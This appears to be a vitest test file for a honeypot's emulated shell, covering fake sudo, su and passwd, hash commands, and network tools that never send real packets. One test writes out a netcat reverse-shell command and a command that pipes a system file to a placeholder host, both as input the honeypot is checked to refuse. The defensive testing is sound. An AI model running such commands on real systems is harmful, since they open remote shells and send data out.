import { describe, expect, it } from 'vitest';
import { tempDirForFile } from '../../../../test/helpers/temp-dir.js';
import { runExec } from '../test-shell-host.js';

const dataDir = tempDirForFile('honeyscope-cmd-');

function run(command: string): ReturnType<typeof runExec> {
  return runExec(command, { dataDir: dataDir() });
}

describe('su, sudo and passwd for root', () => {
  it('sudo runs the rest of the line as root without a password', async () => {
    const result = await run("sudo -u root id; sudo -E sh -c 'echo $((1))'; sudo -i; echo $?");
    expect(result.stdout).toBe('uid=0(root) gid=0(root) groups=0(root)\n$((1))\n0\n');
    expect(result.events).toHaveLength(1);
  });

  it('su switches to root silently, runs -c and refuses unknown users', async () => {
    const result = await run('su - -c whoami; su root; echo $?; su ghost');
    expect(result.stdout).toBe('root\n0\n');
    expect(result.stderr).toBe('su: user ghost does not exist or the user entry does not contain all the required fields\n');
  });

  it('passwd takes piped passwords and logs each one as Cowrie does', async () => {
    const result = await run('printf "s3cret\\ns3cret\\n" | passwd; echo -e "a\\nb" | passwd; echo $?');
    expect(result.stderr).toBe(
      'New password: Retype new password: passwd: password updated successfully\n' +
        'New password: Retype new password: Sorry, passwords do not match.\npasswd: Authentication token manipulation error\npasswd: password unchanged\n',
    );
    expect(result.stdout).toBe('10\n');
    expect(result.events[1]).toEqual({ eventid: 'cowrie.command.success', fields: { realm: 'passwd', input: 's3cret' }, message: 'INPUT (passwd): s3cret' });
  });
});

describe('md5sum and sha256sum', () => {
  it('hash files of the fake fs and stdin', async () => {
    // stdin from /dev/null: an exec client that never sends EOF would keep md5sum waiting for its idle timeout.
    const result = await run('echo -n abc > /tmp/a; md5sum /tmp/a - < /dev/null; sha256sum /tmp/nope < /tmp/a; sha1sum /tmp/a; sha512sum /tmp/a | cut -c1-8');
    expect(result.stdout).toBe(
      '900150983cd24fb0d6963f7d28e17f72  /tmp/a\nd41d8cd98f00b204e9800998ecf8427e  -\n' +
        'a9993e364706816aba3e25717850c26c9cd0d89d  /tmp/a\n',
    );
    expect(result.stderr).toContain('sha256sum: /tmp/nope: No such file or directory\n');
  });
});

describe('network tools (never a real packet)', () => {
  it('ping prints made-up replies and statistics', async () => {
    const result = await run('ping -c 2 -i 0 8.8.8.8; ping -c1 localhost; ping 999.1.1.1');
    expect(result.stdout).toMatch(
      /^PING 8\.8\.8\.8 \(8\.8\.8\.8\) 56\(84\) bytes of data\.\n64 bytes from 8\.8\.8\.8: icmp_seq=1 ttl=117 time=[\d.]+ ms\n64 bytes from 8\.8\.8\.8: icmp_seq=2 ttl=117 time=[\d.]+ ms\n\n--- 8\.8\.8\.8 ping statistics ---\n2 packets transmitted, 2 received, 0% packet loss, time 0ms\nrtt min\/avg\/max\/mdev = [\d.]+\/[\d.]+\/[\d.]+\/[\d.]+ ms\n/,
    );
    expect(result.stdout).toContain('64 bytes from localhost (127.0.0.1): icmp_seq=1 ttl=64');
    expect(result.stderr).toBe('ping: 999.1.1.1: Name or service not known\n');
  });

  it('nc is refused, and refuses -e as openbsd nc does', async () => {
    const result = await run('nc 203.0.113.5 80 < /etc/hostname; echo $?; nc -vz 203.0.113.5 22; nc -e /bin/sh 203.0.113.5 4444; netcat host');
    expect(result.stdout).toBe('1\n');
    expect(result.stderr).toMatch(/^nc: connect to 203\.0\.113\.5 port 22 \(tcp\) failed: Connection refused\nnc: invalid option -- 'e'\nusage: nc .*\nnc: missing port number\n$/s);
  });

  it('nc -l waits until interrupted', async () => {
    const started = performance.now();
    const { ShellSession } = await import('../shell-session.js');
    const { createTestShellHost } = await import('../test-shell-host.js');
    const host = createTestShellHost({ dataDir: dataDir() });
    const session = new ShellSession(host, { pty: false });
    const done = session.exec('nc -lvp 4444; echo after');
    setTimeout(() => session.end(), 50);
    await done;
    expect(performance.now() - started).toBeGreaterThanOrEqual(40);
    expect(host.stdout()).toBe('');
  });

  it('dig answers A records from the emulated resolver', async () => {
    const result = await run('dig +short example.com; dig +short MX example.com; dig @1.1.1.1 example.com');
    const [short, ...rest] = result.stdout.split('\n');
    expect(short).toMatch(/^\d+\.\d+\.\d+\.\d+$/);
    const full = rest.join('\n');
    expect(full).toContain(';; ->>HEADER<<- opcode: QUERY, status: NOERROR');
    expect(full).toContain(`;; ANSWER SECTION:\nexample.com.\t\t300\tIN\tA\t${short}\n`);
    expect(full).toContain(';; SERVER: 1.1.1.1#53(1.1.1.1) (UDP)\n');
  });

  it('top prints one batch screen', async () => {
    const result = await run('top -b -n 1');
    expect(result.stdout).toMatch(/^top - \d\d:\d\d:\d\d up .*load average: .*\nTasks: +\d+ total.*\n%Cpu\(s\):.*\nMiB Mem : .*\nMiB Swap: .*\n\n +PID USER +PR +NI +VIRT +RES +SHR S +%CPU +%MEM +TIME\+ COMMAND\n/);
    expect(result.stdout).toContain(' systemd-journald\n');
  });
});
